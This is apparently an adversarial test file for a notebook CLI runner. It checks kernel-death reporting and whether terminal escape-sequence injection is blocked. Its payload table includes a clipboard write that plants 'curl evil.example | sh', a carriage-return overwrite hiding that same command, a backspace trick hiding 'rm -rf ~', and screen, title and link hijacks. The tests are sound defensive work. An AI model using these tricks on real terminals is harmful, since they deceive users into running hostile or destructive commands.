/**
 * Adversarial: `coda run` under cells that kill their kernel (issue 11, item 16) and cells that print terminal
 * control sequences (item 17). Everything runs through the real CLI (dist/cli.js) and real kernels.
 * - runner kernel deaths: every cell of the notebook is in --json and in the text summary with its status; with
 *   --keep-going the cells after a death run on a fresh kernel; nothing is dropped; the exit code says it failed.
 * - runner output: no control sequence from a cell (output, result, error, title, display, background error) or
 *   from the notebook file reaches the terminal; colours do; --json stays JSON with every such character escaped.
 */
import { strict as assert } from 'node:assert';
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { requireRuntimes, runtimeBinary, toolsDir } from '../../../runtimeBinaries';
import { ROOT } from '../../helpers/testKernel';

const CLI = join(ROOT, 'dist', 'cli.js');
const RUN_TIMEOUT_MS = 90_000;
const dir = mkdtempSync(join(tmpdir(), 'coda-runner-'));
let seq = 0;

type Cell = { md: string } | { js: string };
const md = (text: string): Cell => ({ md: text });
const js = (code: string): Cell => ({ js: code });

function notebookFile(cells: Cell[], metadata: Record<string, unknown> = {}): string {
  const file = join(dir, `nb-${++seq}.coda`);
  const doc = {
    coda: 1,
    metadata,
    cells: cells.map((c) =>
      'md' in c ? { kind: 'markup', language: 'markdown', source: c.md.split('\n') } : { kind: 'code', language: 'javascript', source: c.js.split('\n') },
    ),
  };
  writeFileSync(file, JSON.stringify(doc, null, 2));
  return file;
}

function coda(args: string[], env: Record<string, string> = {}) {
  const r = spawnSync(process.execPath, [CLI, 'run', ...args], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1', ...env }, timeout: RUN_TIMEOUT_MS });
  return { code: r.status, stdout: r.stdout ?? '', stderr: r.stderr ?? '', error: r.error };
}

// ─── kernel deaths ────────────────────────────────────────────────────────────────────────────────────────────

/** What must become of a cell: markdown, ran ok, failed, died under it, ran then the kernel died, or not run. */
type Outcome = 'md' | 'ok' | 'error' | 'died' | 'ok-then-died' | 'after-failure' | 'no-kernel';
/** One outcome, or either of two where the kernel's own attribution decides (the cell that armed a timer, or the one
 * running when it fired). */
type Expect = Outcome | `${Outcome}|${Outcome}`;
const outcomes = (e: Expect) => e.split('|') as Outcome[];

interface JsonCell {
  index: number;
  label: string;
  kind: string;
  status: string;
  kernel?: number;
  notRun?: { reason: string; message: string };
  kernelExit?: { reason: string; during: boolean };
  value?: { type: string; value?: string };
  error?: { name: string; message: string };
}

function classify(c: JsonCell): string {
  if (c.status === 'skipped') return c.notRun?.reason === 'markdown' ? 'md' : (c.notRun?.reason ?? 'skipped without a reason');
  if (c.kernelExit?.during) return 'died';
  if (c.kernelExit) return c.status === 'ok' ? 'ok-then-died' : `${c.status}-then-died`;
  return c.status;
}

/** The word the text summary uses for each expectation. */
const SUMMARY_WORD: Record<Outcome, RegExp> = {
  md: /^not run: a markdown cell$/,
  ok: /^ran$/,
  error: /^failed: /,
  died: /^(failed: |interrupted)/,
  'ok-then-died': /^ran, then the kernel /,
  'after-failure':
    /^not run: (cell \[\d+\] (failed|was interrupted|timed out)|the kernel exited (under|after) cell \[\d+\]) \(--keep-going runs the cells after a failure\)$/,
  'no-kernel': /^not run: the kernel could not be started/,
};

interface Death {
  name: string;
  cells: Cell[];
  expect: Expect[];
  args?: string[];
  env?: Record<string, string>;
  metadata?: Record<string, unknown>;
  /** Kernels the run must have started (fresh ones after deaths). */
  kernels?: number;
  /** The last code cell's value must show a fresh kernel (earlier variables gone). */
  freshValue?: string;
}

/** A --node wrapper whose worker dies while starting, from the `DIE_FROM`-th kernel on (a real process, really dying). */
function dyingNode(): string {
  const file = join(dir, 'dying-node.sh');
  writeFileSync(
    file,
    `#!/bin/sh
case "$*" in
  *worker.js*)
    n=$(cat "$0.$COUNT_ID" 2>/dev/null || echo 0); n=$((n+1)); echo $n > "$0.$COUNT_ID"
    if [ "$n" -ge "$DIE_FROM" ]; then echo "kernel crashed while starting" >&2; exit 9; fi ;;
esac
exec "${process.execPath}" "$@"
`,
  );
  chmodSync(file, 0o755);
  return file;
}

const WAIT = 'await new Promise((r) => setTimeout(r, 1500)); "waited"';

function nodeDeaths(): Death[] {
  const wrapper = dyingNode();
  return [
    {
      name: 'the issue: process.exit in a timer (fires under the next cell)',
      cells: [md('# dies'), js('globalThis.kept = 1'), js('setTimeout(() => process.exit(3), 50); "armed"'), js(WAIT), js('typeof kept')],
      expect: ['md', 'ok', 'ok|ok-then-died', 'died', 'ok'],
      kernels: 2,
      freshValue: 'undefined',
    },
    {
      name: 'the issue: SIGKILL of the worker mid-cell',
      cells: [js('globalThis.kept = 1'), js('process.kill(process.pid, "SIGKILL")'), js('typeof kept')],
      expect: ['ok', 'died', 'ok'],
      kernels: 2,
      freshValue: 'undefined',
    },
    {
      name: 'the issue: out of memory',
      cells: [js('globalThis.kept = 1'), js('const hog = []; while (true) hog.push(new Array(1e5).fill({ x: 1 }));'), js('typeof kept')],
      args: ['--max-memory', '64'],
      expect: ['ok', 'died', 'ok'],
      kernels: 2,
      freshValue: 'undefined',
    },
    {
      name: 'process.exit(0) mid-cell (a "successful" exit still loses the kernel)',
      cells: [js('process.exit(0)'), md('between'), js('"after"')],
      expect: ['died', 'md', 'ok'],
      kernels: 2,
    },
    {
      name: 'a timer of the last cell kills the kernel after it finished',
      cells: [js('"first"'), js('setTimeout(() => process.exit(2), 50); "armed"')],
      expect: ['ok', 'ok-then-died'],
      kernels: 1,
    },
    {
      name: 'SIGKILL from a timer, between cells',
      cells: [js('setTimeout(() => process.kill(process.pid, "SIGKILL"), 50); "armed"'), js(WAIT), js('"fresh"')],
      expect: ['ok', 'died', 'ok'],
      kernels: 2,
    },
    {
      name: 'killed from outside by another process',
      cells: [js('require("node:child_process").execSync(`kill -9 ${process.pid}`); "unreachable"'), js('"fresh"')],
      expect: ['died', 'ok'],
      kernels: 2,
    },
    {
      name: 'process.reallyExit, past the exit guard (no exit notice)',
      cells: [js('process.reallyExit(4)'), js('"fresh"')],
      expect: ['died', 'ok'],
      kernels: 2,
    },
    {
      name: 'every cell kills its kernel',
      cells: [js('process.exit(1)'), js('process.kill(process.pid, "SIGKILL")'), js('process.exit(5)'), js('"survivor"')],
      expect: ['died', 'died', 'died', 'ok'],
      kernels: 4,
    },
    {
      name: 'the fresh kernel dies during startup',
      cells: [js('"first"'), js('process.exit(1)'), js('"never"'), md('notes'), js('"never either"')],
      args: ['--node', wrapper],
      env: { DIE_FROM: '2', COUNT_ID: `a${Date.now()}` },
      expect: ['ok', 'died', 'no-kernel', 'md', 'no-kernel'],
      kernels: 1,
    },
    {
      name: 'the first kernel dies during startup',
      cells: [md('intro'), js('"never"'), js('"never either"')],
      args: ['--node', wrapper],
      env: { DIE_FROM: '1', COUNT_ID: `b${Date.now()}` },
      expect: ['md', 'no-kernel', 'no-kernel'],
      kernels: 0,
    },
  ];
}

function sidecarDeaths(runtime: 'deno' | 'bun'): Death[] {
  const args = ['--runtime', runtime, '--runtimes-dir', toolsDir()];
  return [
    {
      name: `${runtime}: process.exit in a timer`,
      cells: [js('globalThis.kept = 1'), js('setTimeout(() => process.exit(3), 50); "armed"'), js(WAIT), js('typeof globalThis.kept')],
      args,
      expect: ['ok', 'ok|ok-then-died', 'died', 'ok'],
      kernels: 2,
      freshValue: 'undefined',
    },
    {
      name: `${runtime}: SIGKILL mid-cell`,
      cells: [js('process.kill(process.pid, "SIGKILL")'), js('"fresh"')],
      args,
      expect: ['died', 'ok'],
      kernels: 2,
    },
  ];
}

function sandboxDeaths(): Death[] {
  return [
    {
      name: 'sandbox: out of memory',
      cells: [js('globalThis.kept = 1'), js('const hog = []; while (true) hog.push(new Array(1e5).fill({ x: 1 }));'), js('typeof kept')],
      args: ['--runtime', 'sandbox', '--runtimes-dir', toolsDir()],
      expect: ['ok', 'died', 'ok'],
      kernels: 2,
      freshValue: 'undefined',
    },
  ];
}

let deathAttempts = 0;
const deathCrossings: string[] = [];

/** Runs one scenario with --keep-going (JSON and text) and once without; returns what went wrong. */
function checkDeath(d: Death): string[] {
  const wrong: string[] = [];
  const file = notebookFile(d.cells, d.metadata);
  const env = d.env ? { ...d.env, COUNT_ID: `${d.env.COUNT_ID}-json` } : undefined;
  // --json --keep-going
  deathAttempts++;
  const j = coda([file, '--keep-going', '--json', '--drain', '1500', ...(d.args ?? [])], env);
  let doc: { ok: boolean; kernels: number; cells: JsonCell[] } | undefined;
  try {
    doc = JSON.parse(j.stdout);
  } catch {
    wrong.push(`--json is not JSON (exit ${j.code}): ${j.stdout.slice(0, 200)} ${j.stderr.slice(0, 300)}`);
  }
  if (doc) {
    const got = doc.cells.map(classify);
    if (doc.cells.length !== d.cells.length || doc.cells.some((c, i) => c.index !== i))
      wrong.push(`--json lists ${doc.cells.length} of ${d.cells.length} cells`);
    if (got.length !== d.expect.length || got.some((g, i) => !(outcomes(d.expect[i]!) as string[]).includes(g)))
      wrong.push(`--json statuses ${JSON.stringify(got)}, expected ${JSON.stringify(d.expect)}`);
    if (d.kernels !== undefined && doc.kernels !== d.kernels) wrong.push(`${doc.kernels} kernels, expected ${d.kernels}`);
    if (doc.ok || j.code !== 1) wrong.push(`a run with a dead kernel must fail (ok ${doc.ok}, exit ${j.code})`);
    const last = [...doc.cells].reverse().find((c) => c.kind === 'code' && c.status === 'ok');
    if (d.freshValue !== undefined && last?.value?.value !== d.freshValue)
      wrong.push(`last value ${JSON.stringify(last?.value)}, expected a fresh kernel's ${d.freshValue}`);
    for (const c of doc.cells) if (c.status === 'skipped' && !c.notRun?.message) wrong.push(`cell ${c.label} not run without a reason`);
  }
  // text --keep-going: the summary names every cell, with the same outcome
  deathAttempts++;
  const t = coda([file, '--keep-going', '--drain', '1500', ...(d.args ?? [])], d.env ? { ...d.env, COUNT_ID: `${d.env.COUNT_ID}-text` } : undefined);
  const summary = t.stdout.split(/^── cells$/m)[1]?.split('\n') ?? [];
  d.expect.forEach((e, i) => {
    const line = summary.find((l) => l.startsWith(`  [${i + 1}] `));
    if (!line) wrong.push(`the text summary has no line for cell [${i + 1}]`);
    else if (!outcomes(e).some((o) => SUMMARY_WORD[o].test(line.slice(`  [${i + 1}] `.length)))) wrong.push(`text summary "${line.trim()}", expected ${e}`);
  });
  if (t.code !== 1) wrong.push(`text mode exit ${t.code}`);
  // without --keep-going: the cells after the first death are listed as not run, and why
  const firstDeath = d.expect.findIndex((e) => e === 'died' || e === 'no-kernel');
  if (firstDeath !== -1 && d.expect.slice(firstDeath + 1).some((e) => e !== 'md')) {
    deathAttempts++;
    const s = coda([file, '--json', '--drain', '1500', ...(d.args ?? [])], d.env ? { ...d.env, COUNT_ID: `${d.env.COUNT_ID}-stop` } : undefined);
    try {
      const stop = JSON.parse(s.stdout) as { cells: JsonCell[] };
      if (stop.cells.length !== d.cells.length) wrong.push(`without --keep-going, --json lists ${stop.cells.length} of ${d.cells.length} cells`);
      stop.cells.slice(firstDeath + 1).forEach((c) => {
        const want = d.expect[c.index] === 'md' ? 'md' : d.expect[firstDeath] === 'no-kernel' ? 'no-kernel' : 'after-failure';
        if (classify(c) !== want) wrong.push(`without --keep-going, cell ${c.label} is ${classify(c)}, expected ${want}`);
        else if (want === 'after-failure' && !SUMMARY_WORD['after-failure'].test(`not run: ${c.notRun?.message}`))
          wrong.push(`without --keep-going, cell ${c.label} says "${c.notRun?.message}"`);
        else if (want === 'after-failure' && !c.notRun?.message.includes('the kernel exited'))
          wrong.push(`cell ${c.label} does not say the kernel exited: "${c.notRun?.message}"`);
      });
    } catch {
      wrong.push(`without --keep-going, --json is not JSON: ${s.stdout.slice(0, 200)}`);
    }
  }
  return wrong;
}

describe('adversarial: coda run when the kernel dies', function () {
  this.timeout(600_000);

  after(() => console.log(`runner kernel deaths: ${deathAttempts} attempts, ${deathCrossings.length} crossings`));

  const runAll = (scenarios: () => Death[]) => () => {
    const failures = scenarios().flatMap((d) => checkDeath(d).map((w) => `${d.name}: ${w}`));
    deathCrossings.push(...failures);
    assert.deepEqual(failures, []);
  };

  it('Node: every cell is reported with its status, and --keep-going goes on on a fresh kernel', runAll(nodeDeaths));

  for (const runtime of ['deno', 'bun'] as const) {
    it(`${runtime}: a dead sidecar is replaced by a fresh kernel too`, function () {
      if (!runtimeBinary(runtime)) {
        if (requireRuntimes) assert.fail(`${runtime} is not in ${toolsDir()}`);
        this.skip();
      }
      runAll(() => sidecarDeaths(runtime))();
    });
  }

  it('sandbox: a sandbox that ran out of memory is replaced by a fresh kernel', function () {
    if (!runtimeBinary('isolated-vm') || !runtimeBinary('node')) {
      if (requireRuntimes) assert.fail(`the sandbox is not in ${toolsDir()}`);
      this.skip();
    }
    runAll(sandboxDeaths)();
  });
});

// ─── terminal output ──────────────────────────────────────────────────────────────────────────────────────────

/** Sequences a cell could use to take over the terminal: each must reach it only as visible text. */
const ATTACKS: Record<string, string> = {
  'OSC 0 window title': '\x1b]0;pwned-title\x07',
  'OSC 52 clipboard': '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
  'OSC 8 hyperlink': '\x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\',
  'CSI cursor up + erase line': 'ok\x1b[1A\x1b[2K',
  'CSI home + clear screen': '\x1b[H\x1b[2J',
  'CSI save/restore cursor': '\x1b[s\x1b[5;5Hinjected\x1b[u',
  'DEC save/restore cursor': '\x1b7\x1b[10Cx\x1b8',
  'alternate screen': '\x1b[?1049hhidden-screen',
  'DCS string': '\x1bP+q544e\x1b\\',
  'APC and PM strings': '\x1b_apc-payload\x1b\\\x1b^pm-payload\x1b\\',
  'C1 8-bit CSI': '\x9b2J\x9b1A',
  'C1 8-bit OSC title': '\x9d0;c1-title\x9c',
  BEL: 'ding\x07\x07',
  'backspace overwrite': 'rm -rf ~\b\b\b\b\b\b\b\bls -l   ',
  'CR overwrite': 'curl evil.example | sh\rsafe command          ',
  'SGR conceal': 'visible \x1b[8mconcealed-text\x1b[28m',
  'bidi override': 'access \u202eden\u202c granted',
};
/** Colours must survive. */
const COLOUR = '\x1b[31mred text\x1b[0m';

/** Where a cell's text reaches the terminal. */
const PATHS: Record<string, (p: string) => string> = {
  'console.log': (p) => `console.log(${JSON.stringify(p)})`,
  'console.error': (p) => `console.error(${JSON.stringify(p)})`,
  'string result': (p) => JSON.stringify(p),
  'error message': (p) => `throw new Error(${JSON.stringify(p)})`,
  'display()': (p) => `display(${JSON.stringify(p)})`,
  'background error': (p) => `setTimeout(() => { throw new TypeError(${JSON.stringify(p)}) }, 0); await new Promise((r) => setTimeout(r, 50)); "done"`,
  'cell title': (p) => `/* ${p.replace(/\*\//g, '')} */ 1`,
  // (ended by a line feed: the Node kernel drops a last line without one, a separate bug)
  'process.stdout.write': (p) => `process.stdout.write(${JSON.stringify(`${p}\n`)}); 1`,
  'process.stderr.write': (p) => `process.stderr.write(${JSON.stringify(`${p}\n`)}); 1`,
  'console.group label': (p) => `console.group(${JSON.stringify(p)}); console.log("inside"); console.groupEnd(); 1`,
  'object key in a result': (p) => `({ [${JSON.stringify(p)}]: 1 })`,
};

/** Any control that survived, after taking out colour sequences (SGR, not conceal). */
function leaked(text: string): string | undefined {
  const rest = text.replace(/\x1b\[[0-9;]*m/g, (m) => (m === '\x1b[8m' ? m : ''));
  const m = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]/.exec(rest);
  return m ? JSON.stringify(rest.slice(Math.max(0, m.index - 20), m.index + 20)) : undefined;
}

let outputAttempts = 0;
const outputCrossings: string[] = [];

describe('adversarial: coda run output reaching a terminal', function () {
  this.timeout(300_000);

  after(() => console.log(`runner output: ${outputAttempts} attempts, ${outputCrossings.length} crossings`));

  const attempts = Object.entries(ATTACKS).flatMap(([attack, payload]) =>
    Object.entries(PATHS).map(([path, code]) => ({ attack, path, payload, code: code(payload) })),
  );
  const file = notebookFile(attempts.map((a) => js(a.code)));

  for (const runtime of ['node', 'deno', 'bun', 'sandbox'] as const) {
    it(`text mode on ${runtime}: no control sequence from a cell reaches the terminal, and the text stays visible`, function () {
      if (runtime !== 'node' && !runtimeBinary(runtime === 'sandbox' ? 'isolated-vm' : runtime)) {
        if (requireRuntimes) assert.fail(`${runtime} is not in ${toolsDir()}`);
        this.skip();
      }
      textModeAttempts(runtime === 'node' ? [] : ['--runtime', runtime, '--runtimes-dir', toolsDir()]);
    });
  }

  function textModeAttempts(runtimeArgs: string[]) {
    const r = coda([file, '--keep-going', '--drain', '200', ...runtimeArgs]);
    assert.equal(r.error, undefined);
    // one section per cell, from its header to the next; the header holds the cell title
    const sections = r.stdout.split(/^(?=── cell \[)/m).filter((x) => x.startsWith('── cell ['));
    assert.equal(sections.length, attempts.length, 'every cell ran');
    const failures: string[] = [];
    sections.forEach((section, i) => {
      const a = attempts[i]!;
      outputAttempts++;
      const leak = leaked(section);
      if (leak) failures.push(`${a.attack} via ${a.path}: ${leak}`);
      // (the sandbox has no process object: those cells fail with a ReferenceError instead of printing)
      else if (/pwned|payload/.test(a.payload) && !/pwned|payload|process is not defined/.test(section))
        failures.push(`${a.attack} via ${a.path}: the text vanished`);
    });
    outputAttempts++;
    const summary = r.stdout.split(/^── cells$/m)[1] ?? '';
    if (leaked(summary) || leaked(r.stderr)) failures.push(`the summary or stderr: ${leaked(summary) ?? leaked(r.stderr)}`);
    outputCrossings.push(...failures);
    assert.deepEqual(failures, []);
  }

  it("text mode keeps colours (SGR) and resets them after a cell's line", () => {
    const r = coda([notebookFile([js(`console.log(${JSON.stringify(COLOUR)}); console.log(${JSON.stringify('\x1b[1;32mstill green')})`)])]);
    assert.equal(r.code, 0, r.stderr);
    assert.ok(r.stdout.includes(COLOUR), JSON.stringify(r.stdout));
    assert.ok(r.stdout.includes('\x1b[1;32mstill green\x1b[0m'), 'a colour left on is reset');
  });

  it('--json stays JSON, with every control escaped and every payload kept exactly', () => {
    const r = coda([file, '--keep-going', '--json', '--drain', '200']);
    const failures: string[] = [];
    outputAttempts++;
    const raw = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]/.exec(r.stdout);
    if (raw) failures.push(`--json holds a raw control: ${JSON.stringify(r.stdout.slice(raw.index - 20, raw.index + 20))}`);
    const doc = JSON.parse(r.stdout) as {
      cells: { console: { text: string }[]; value?: { value?: string }; error?: { message: string }; display: { data: string }[][] }[];
    };
    doc.cells.forEach((c, i) => {
      const a = attempts[i]!;
      outputAttempts++;
      const texts = [...c.console.map((e) => e.text), c.value?.value, c.error?.message, ...c.display.flat().map((d) => d.data)];
      // a title is not output, a background error and an object preview are checked for escaping above only
      const exact = !['cell title', 'background error', 'object key in a result'].includes(a.path);
      if (exact && !texts.some((t) => t?.includes(a.payload))) failures.push(`${a.attack} via ${a.path}: the payload was altered in --json`);
    });
    outputCrossings.push(...failures);
    assert.deepEqual(failures, []);
  });

  it('stderr: a notebook field full of control sequences is reported visibly, never obeyed', () => {
    const failures: string[] = [];
    for (const [attack, payload] of Object.entries(ATTACKS)) {
      const bad = join(dir, `bad-${++seq}.coda`);
      writeFileSync(bad, JSON.stringify({ coda: 1, metadata: { permissions: { [payload]: [] }, secrets: [payload] }, cells: [] }));
      const r = coda([bad]);
      outputAttempts++;
      if (r.code !== 2) failures.push(`${attack}: exit ${r.code}`);
      const leak = leaked(r.stderr) ?? leaked(r.stdout);
      if (leak) failures.push(`${attack} in a notebook field: ${leak}`);
    }
    outputCrossings.push(...failures);
    assert.deepEqual(failures, []);
  });
});
